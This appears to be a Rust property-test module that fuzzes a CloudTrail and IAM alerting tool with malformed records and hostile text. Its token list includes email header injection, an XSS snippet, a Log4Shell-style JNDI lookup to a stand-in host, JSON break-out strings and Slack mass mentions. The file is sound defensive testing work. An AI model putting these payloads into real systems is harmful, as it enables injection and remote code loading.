//! Generators of hostile input for the property tests (`mod props` beside each parser), in one
//! place so every parser is fed the same nastiness: text with line breaks, NULs, bidirectional
//! overrides, Slack and Markdown specials, HTML and header injections; values up to 1 MB; JSON
//! of any shape and nesting deeper than serde_json's recursion limit; CloudTrail records whose
//! every field may be missing, null or of the wrong type.
//!
//! How many cases each property runs: [`config`]. `PROPTEST_CASES` overrides every default
//! (the long mode, `scripts/fuzz --long`, sets it); `PROPTEST_RNG_SEED` replays a run. See
//! bench/README.md, "Property tests and fuzzing".

use proptest::prelude::*;
use proptest::test_runner::Config;
use serde_json::{Map, Value};

use crate::event::Record;
use crate::rules::{FailedCalls, Ruleset, Severity};

/// Cases a light property (one parse of a small input) runs by default. Heavier properties
/// (whole trail files, every notifier's payload, 1 MB values) run fewer, so that the whole set
/// stays within about two minutes of `cargo test --lib` in debug on two cores; the long mode
/// runs every property with the same, larger count.
pub(crate) const CASES: u32 = 3_000;

/// The configuration of a property: `cases` by default; `cases` times `IAMWATCHD_FUZZ_SCALE`
/// in the long mode (`scripts/fuzz --long`), each property announcing its count on stderr so
/// the script can add them up; exactly `PROPTEST_CASES` when that is set. Failures are kept in
/// `proptest-regressions/` beside `src/` and tried first on every later run.
pub(crate) fn config(cases: u32) -> Config {
    let mut config = Config::default();
    let scale = std::env::var("IAMWATCHD_FUZZ_SCALE").ok();
    if std::env::var_os("PROPTEST_CASES").is_none() {
        let factor = scale
            .as_deref()
            .and_then(|s| s.parse::<f64>().ok())
            .unwrap_or(1.0);
        config.cases = (f64::from(cases) * factor).ceil() as u32;
    }
    if scale.is_some() {
        let name = std::thread::current().name().unwrap_or("?").to_owned();
        eprintln!("fuzz: {name}: {} cases", config.cases);
    }
    // Shrinking a 1 MB input byte by byte takes long; a few thousand steps find the culprit.
    config.max_shrink_iters = 4_096;
    // A property that skips some inputs (`prop_assume!`) may skip a share of them whatever the
    // case count: proptest's fixed 1,024 aborted the long run (19 x) of one that skips about
    // one input in nine.
    config.max_global_rejects = config.max_global_rejects.max(config.cases / 2);
    config
}

/// Characters that break naive renderers and parsers: line breaks and controls, the Unicode
/// separators and bidirectional controls, zero-width characters, Slack mrkdwn, Markdown and
/// HTML specials, quotes and escapes, and some plain non-ASCII.
pub(crate) const NASTY_CHARS: &[char] = &[
    '\r', '\n', '\0', '\t', '\u{7}', '\u{1b}', '\u{7f}', '\u{85}', '\u{2028}', '\u{2029}',
    '\u{200B}', '\u{200E}', '\u{200F}', '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}',
    '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}', '\u{FEFF}', '\u{FFFD}', '\u{FFFF}', '<', '>',
    '&', '*', '_', '~', '`', '"', '\'', '\\', '|', '[', ']', '(', ')', '#', '!', '@', '%', '+',
    '-', ':', '=', '{', '}', ';', ',', '.', '/', '?', ' ', '→', '…', 'é', 'ß', '漢', '😀',
];

/// Whole tokens an attacker would try: mentions, links, markup, header and template injection.
pub(crate) const NASTY_TOKENS: &[&str] = &[
    "\r\n",
    "\r\n\r\n",
    "\nBcc: evil@example.com",
    "\r\nSubject: injected",
    "\r\nContent-Type: text/html",
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "@here",
    "<@U012AB3CD>",
    "<#C012AB3CD>",
    "<https://evil.example|click>",
    "[click](https://evil.example)",
    "![img](https://evil.example/x.png)",
    "<a href=\"https://evil.example\">click</a>",
    "<script>alert(1)</script>",
    "<b>html</b>",
    "&amp;",
    "&lt;",
    "*bold*",
    "**bold**",
    "_it_",
    "~strike~",
    "`code`",
    "```block```",
    "# heading",
    "> quote",
    "1. item",
    "- item",
    "=?utf-8?b?SGk=?=",
    "%0d%0a",
    "%7B%22a%22%3A1%7D",
    "\u{202E}gnp.exe",
    "\u{2066}admin\u{2069}",
    "{{template}}",
    "${jndi:ldap://evil}",
    "\\u0000",
    "\"},{\"injected\":true",
    "us-east-1",
    "arn:aws:iam::123456789012:role/x",
];

/// One line of hostile text, at most a few hundred bytes.
pub(crate) fn hostile_short() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => proptest::sample::select(NASTY_CHARS).prop_map(String::from),
        3 => proptest::sample::select(NASTY_TOKENS).prop_map(str::to_owned),
        3 => "[a-zA-Z0-9]{1,12}",
        1 => any::<char>().prop_map(String::from),
    ];
    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

/// Hostile text of any size: mostly short, sometimes arbitrary Unicode, rarely huge (up to
/// just over 1 MB, a repeated hostile piece, so that cutting and size limits are exercised;
/// [`huge_string`] when a property needs one every time).
pub(crate) fn hostile_string() -> impl Strategy<Value = String> {
    prop_oneof![
        120 => hostile_short(),
        30 => any::<String>(),
        // Rare, as a record has a few dozen strings: about one record in ten holds a long one,
        // one in thirty a 1 MB one.
        1 => huge_string(),
    ]
}

/// Hostile text of 5 KB to just over 1 MB.
pub(crate) fn huge_string() -> impl Strategy<Value = String> {
    (
        hostile_short(),
        proptest::sample::select(&[5_000usize, 70_000, 1_048_577][..]),
    )
        .prop_map(|(piece, size)| repeat_to(&piece, size))
}

/// `piece` repeated to at least `size` bytes (`x` when `piece` is empty).
pub(crate) fn repeat_to(piece: &str, size: usize) -> String {
    let piece = if piece.is_empty() { "x" } else { piece };
    piece.repeat(size.div_ceil(piece.len()))
}

/// Any JSON value, at most a few levels deep, strings hostile.
pub(crate) fn json_value() -> BoxedStrategy<Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(Value::from),
        any::<u64>().prop_map(Value::from),
        // Decimals that serde_json reads back exactly: its default float parsing may be off in
        // the last digit of a long mantissa, and a value must equal its own text.
        (any::<i32>(), 0i32..8).prop_map(|(m, d)| Value::from(f64::from(m) / 10f64.powi(d))),
        hostile_string().prop_map(Value::String),
    ];
    leaf.prop_recursive(4, 32, 6, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
            prop::collection::vec((json_key(), inner), 0..6)
                .prop_map(|entries| Value::Object(entries.into_iter().collect())),
        ]
    })
    .boxed()
}

fn json_key() -> impl Strategy<Value = String> {
    prop_oneof![
        3 => proptest::sample::select(RECORD_KEYS).prop_map(str::to_owned),
        1 => hostile_short(),
    ]
}

/// JSON text nested `depth` levels deep (arrays, objects or a mix), far past serde_json's
/// recursion limit of 128 at the top of the range.
pub(crate) fn deep_json() -> impl Strategy<Value = (usize, String)> {
    (1usize..20_000, 0u8..3).prop_map(|(depth, shape)| {
        let (open, close) = match shape {
            0 => ("[", "]"),
            1 => ("{\"a\":", "}"),
            _ => ("[{\"eventID\":", "}]"),
        };
        (
            depth,
            format!("{}1{}", open.repeat(depth), close.repeat(depth)),
        )
    })
}

/// The keys a CloudTrail record's readers look at, top level and inside `userIdentity`.
pub(crate) const RECORD_KEYS: &[&str] = &[
    "eventID",
    "eventName",
    "eventSource",
    "eventTime",
    "awsRegion",
    "sourceIPAddress",
    "userAgent",
    "errorCode",
    "errorMessage",
    "readOnly",
    "recipientAccountId",
    "userIdentity",
    "requestParameters",
    "responseElements",
    "sessionCredentialFromConsole",
    "eventType",
    "additionalEventData",
    "type",
    "arn",
    "accountId",
    "accessKeyId",
    "userName",
    "invokedBy",
    "sessionContext",
    "sessionIssuer",
    "attributes",
    "mfaAuthenticated",
    "roleName",
    "policyArn",
    "policyDocument",
    "groupName",
    "policyName",
    "name",
    "trailName",
];

/// Event sources and names the rules know, so generated records reach the rules and the
/// renderers, not only the parser.
const EVENT_SOURCES: &[&str] = &[
    "iam.amazonaws.com",
    "cloudtrail.amazonaws.com",
    "signin.amazonaws.com",
    "sts.amazonaws.com",
    "logs.amazonaws.com",
    "sns.amazonaws.com",
    "s3.amazonaws.com",
    "organizations.amazonaws.com",
    "sso.amazonaws.com",
];
const EVENT_NAMES: &[&str] = &[
    "CreateUser",
    "DeleteUser",
    "CreateAccessKey",
    "AttachUserPolicy",
    "AttachRolePolicy",
    "PutRolePolicy",
    "PutUserPolicy",
    "CreatePolicyVersion",
    "UpdateAssumeRolePolicy",
    "CreateRole",
    "TagUser",
    "GetUser",
    "ListUsers",
    "StopLogging",
    "DeleteTrail",
    "UpdateTrail",
    "PutEventSelectors",
    "DeleteMetricFilter",
    "ConsoleLogin",
    "AssumeRole",
    "PutObject",
];

/// A plausible value for a record key, or a wrong-typed, null or hostile one.
fn field_value(plausible: Strategy1) -> BoxedStrategy<Option<Value>> {
    prop_oneof![
        6 => plausible.prop_map(|s| Some(Value::String(s))),
        1 => Just(None),
        1 => Just(Some(Value::Null)),
        1 => Just(Some(Value::String(String::new()))),
        2 => json_value().prop_map(Some),
    ]
    .boxed()
}

type Strategy1 = BoxedStrategy<String>;

fn one_of(values: &'static [&'static str]) -> Strategy1 {
    prop_oneof![
        4 => proptest::sample::select(values).prop_map(str::to_owned),
        1 => hostile_string(),
    ]
    .boxed()
}

/// A field: one of `values`, hostile text, or missing, null, empty or of another type.
fn plausible(values: &'static [&'static str]) -> BoxedStrategy<Option<Value>> {
    field_value(one_of(values))
}

fn object(entries: Vec<(&'static str, Option<Value>)>) -> Value {
    let map: Map<String, Value> = entries
        .into_iter()
        .filter_map(|(key, value)| Some((key.to_owned(), value?)))
        .collect();
    Value::Object(map)
}

/// A CloudTrail record as JSON: every field the readers use, each present and plausible, or
/// absent, null, empty, of another type, or hostile; `userIdentity` and `requestParameters`
/// likewise, sometimes not objects at all.
pub(crate) fn record_json() -> BoxedStrategy<Value> {
    let identity = (
        plausible(&[
            "IAMUser",
            "AssumedRole",
            "Root",
            "AWSService",
            "FederatedUser",
        ]),
        plausible(&[
            "arn:aws:iam::123456789012:user/alice",
            "arn:aws:sts::123456789012:assumed-role/admin/session",
            "arn:aws:iam::123456789012:root",
        ]),
        plausible(&["123456789012", "000000000000"]),
        plausible(&["AKIAIOSFODNN7EXAMPLE", "ASIAEXAMPLE"]),
        plausible(&["alice", "bob"]),
        plausible(&["cloudformation.amazonaws.com"]),
        plausible(&["arn:aws:iam::123456789012:role/admin"]),
        plausible(&["true", "false", "TRUE"]),
    )
        .prop_map(|(kind, arn, account, key, user, invoked, issuer, mfa)| {
            let session = object(vec![
                (
                    "sessionIssuer",
                    Some(object(vec![
                        ("arn", issuer),
                        ("userName", Some("admin".into())),
                    ])),
                ),
                ("attributes", Some(object(vec![("mfaAuthenticated", mfa)]))),
            ]);
            object(vec![
                ("type", kind),
                ("arn", arn),
                ("accountId", account),
                ("accessKeyId", key),
                ("userName", user),
                ("invokedBy", invoked),
                ("sessionContext", Some(session)),
            ])
        })
        .boxed();
    let parameters = (
        plausible(&["bob", "admin"]),
        plausible(&["role-x"]),
        plausible(&["arn:aws:iam::aws:policy/AdministratorAccess"]),
        plausible(&[
            r#"{"Version":"2012-10-17","Statement":{"Effect":"Allow","Action":"*","Resource":"*"}}"#,
            "%7B%22Statement%22%3A%5B%5D%7D",
        ]),
        plausible(&["main-trail"]),
    )
        .prop_map(|(user, role, policy, document, trail)| {
            object(vec![
                ("userName", user),
                ("roleName", role),
                ("policyArn", policy),
                ("policyDocument", document),
                ("name", trail),
            ])
        })
        .boxed();
    let top = (
        plausible(&["0f2b4c1e-1111-2222-3333-444455556666"]),
        plausible(EVENT_NAMES),
        plausible(EVENT_SOURCES),
        plausible(&[
            "2023-07-10T12:23:05Z",
            "2023-07-10 12:23:05",
            "+262143-12-31T23:59:59Z",
            "2023-07-10T12:23:05.999999999+14:00",
        ]),
        plausible(&["us-east-1", "cn-north-1", "us-gov-west-1", "eu-west-1"]),
        plausible(&["192.0.2.1", "AWS Internal"]),
        plausible(&["aws-cli/2.0", "console.amazonaws.com", "AWS Internal"]),
        plausible(&["AccessDenied", "NoSuchEntity"]),
        plausible(&["true", "false"]),
        plausible(&["123456789012"]),
    )
        .boxed();
    (
        top,
        prop_oneof![4 => identity.prop_map(Some), 1 => json_value().prop_map(Some)],
        prop_oneof![4 => parameters.prop_map(Some), 1 => json_value().prop_map(Some)],
        prop::option::of(json_value()),
    )
        .prop_map(|(top, identity, parameters, response)| {
            let (id, name, source, time, region, ip, agent, error, read_only, account) = top;
            object(vec![
                ("eventID", id),
                ("eventName", name),
                ("eventSource", source),
                ("eventTime", time),
                ("awsRegion", region),
                ("sourceIPAddress", ip),
                ("userAgent", agent),
                ("errorCode", error.clone()),
                ("errorMessage", error),
                ("readOnly", read_only),
                ("recipientAccountId", account),
                ("userIdentity", identity),
                ("requestParameters", parameters),
                ("responseElements", response),
            ])
        })
        .boxed()
}

/// [`record_json`] with one of the fields the readers use (top level, in `userIdentity` or in
/// `requestParameters`) holding 5 KB to 1 MB of hostile text.
pub(crate) fn record_json_with_huge_field() -> BoxedStrategy<Value> {
    let paths: Vec<&'static str> = RECORD_KEYS[..15]
        .iter()
        .copied()
        .chain([
            "userIdentity/arn",
            "userIdentity/userName",
            "userIdentity/sessionContext/sessionIssuer/userName",
        ])
        .chain([
            "requestParameters/userName",
            "requestParameters/policyDocument",
            "requestParameters/roleName",
        ])
        .collect();
    (
        record_json(),
        proptest::sample::select(paths),
        huge_string(),
    )
        .prop_map(|(mut json, path, huge)| {
            let pointer = format!("/{path}");
            match json.pointer_mut(&pointer) {
                Some(slot) => *slot = Value::String(huge),
                None => json[path.split('/').next().unwrap_or(path)] = Value::String(huge),
            }
            json
        })
        .boxed()
}

/// A record the parser accepts: [`record_json`] with the required fields filled in where the
/// generated ones are not readable, for the code that works on records.
pub(crate) fn record() -> BoxedStrategy<Record> {
    prop_oneof![9 => record_json(), 1 => record_json_with_huge_field()]
        .prop_map(|mut json| {
            for (key, fallback) in [
                ("eventID", "0f2b4c1e-1111-2222-3333-444455556666"),
                ("eventName", "CreateUser"),
                ("eventSource", "iam.amazonaws.com"),
            ] {
                let readable = match json.get(key) {
                    Some(Value::String(s)) => !s.is_empty(),
                    Some(Value::Number(_) | Value::Bool(_)) => true,
                    _ => false,
                };
                if !readable {
                    json[key] = Value::from(fallback);
                }
            }
            Record::from_json(json).expect("the required fields are there")
        })
        .boxed()
}

/// The rules with nothing allowed and nothing filtered: every record they can report is.
pub(crate) fn report_everything() -> Ruleset {
    Ruleset {
        allow: Vec::new(),
        failed_calls: FailedCalls::Report,
        min_severity: Severity::Info,
        ours: Default::default(),
    }
}

/// What a record's users call on it (the rules, the target, the actor): none of it may
/// panic, whatever the record holds.
pub(crate) fn exercise(record: &Record) {
    let _ = report_everything().judge(record);
    let _ = (record.target(), record.account(), record.failed());
    let _ = (record.identity.principal(), record.identity.display_name());
}
